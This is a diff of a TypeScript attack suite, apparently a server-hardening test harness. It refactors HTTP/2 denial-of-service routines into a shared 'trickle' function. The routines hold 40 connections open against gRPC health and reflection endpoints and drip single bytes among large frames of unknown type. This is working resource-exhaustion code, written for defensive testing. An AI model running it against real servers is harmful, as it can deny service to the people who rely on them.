@@ -19,7 +19,6 @@ import type { Target } from "./target.ts";
 
 const health = "/grpc.health.v1.Health";
 const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
-const dataFrame = 0x0;
 const unknownFrame = 0x42;
 
 /** A call that anybody may make, whose message is still to come. */
@@ -34,7 +33,7 @@ const beginCall = (path: string) =>
     ),
   ]);
 
-const sendData = (bytes: Buffer) => http2Frame(dataFrame, frameFlag.none, 1, bytes);
+const sendData = (bytes: Buffer) => http2Frame(frameType.data, frameFlag.none, 1, bytes);
 
 /** A watch by HTTP/1.1, which what follows has to wait for. */
 const watch = http1(
@@ -43,6 +42,21 @@ const watch = http1(
   { "content-type": "application/connect+json" },
   frame(Buffer.from("{}")),
 );
+
+/** Begins a call on 40 connections, and then sends a byte at a time among frames without a meaning. */
+async function trickle(target: Target, begin: Buffer, rounds: number): Promise<number> {
+  const meaningless = http2Frame(unknownFrame, 0, 0, Buffer.alloc(16_000));
+  const one = Buffer.concat([sendData(Buffer.alloc(1)), ...Array(4).fill(meaningless)]);
+  const connections = await Promise.all(
+    Array.from({ length: 40 }, () => target.open("grpc", { protocol: "h2" })),
+  );
+  for (const { socket } of connections) socket.write(begin);
+  for (let i = 0; i < rounds; i += 1) {
+    for (const { socket } of connections) socket.write(one);
+    await delay(30);
+  }
+  return connections.length * rounds;
+}
 
 /** Writes the same on so many connections by HTTP/1.1, and gives the replies a moment. */
 async function writeToAll(target: Target, count: number, bytes: Buffer): Promise<void> {
@@ -57,19 +71,7 @@ const attacks: Attack[] = [
   ...[`${health}/Watch`, `${health}/Check`, reflection].map(
     (path): Attack => ({
       name: `bytes among frames without a meaning to ${path}`,
-      async run(target) {
-        const meaningless = http2Frame(unknownFrame, 0, 0, Buffer.alloc(16_000));
-        const one = Buffer.concat([sendData(Buffer.alloc(1)), ...Array(4).fill(meaningless)]);
-        const connections = await Promise.all(
-          Array.from({ length: 40 }, () => target.open("grpc", { protocol: "h2" })),
-        );
-        for (const { socket } of connections) socket.write(beginCall(path));
-        for (let i = 0; i < 60; i += 1) {
-          for (const { socket } of connections) socket.write(one);
-          await delay(30);
-        }
-        return connections.length * 60;
-      },
+      run: (target) => trickle(target, beginCall(path), 60),
     }),
   ),
   {
@@ -83,17 +85,7 @@ const attacks: Attack[] = [
         closedWindows,
         ...Array(10).fill(asking),
       ]);
-      const meaningless = http2Frame(unknownFrame, 0, 0, Buffer.alloc(16_000));
-      const one = Buffer.concat([sendData(Buffer.alloc(1)), ...Array(4).fill(meaningless)]);
-      const connections = await Promise.all(
-        Array.from({ length: 40 }, () => target.open("grpc", { protocol: "h2" })),
-      );
-      for (const { socket } of connections) socket.write(begin);
-      for (let i = 0; i < 150; i += 1) {
-        for (const { socket } of connections) socket.write(one);
-        await delay(30);
-      }
-      return connections.length * 150;
+      return trickle(target, begin, 150);
     },
   },
   {
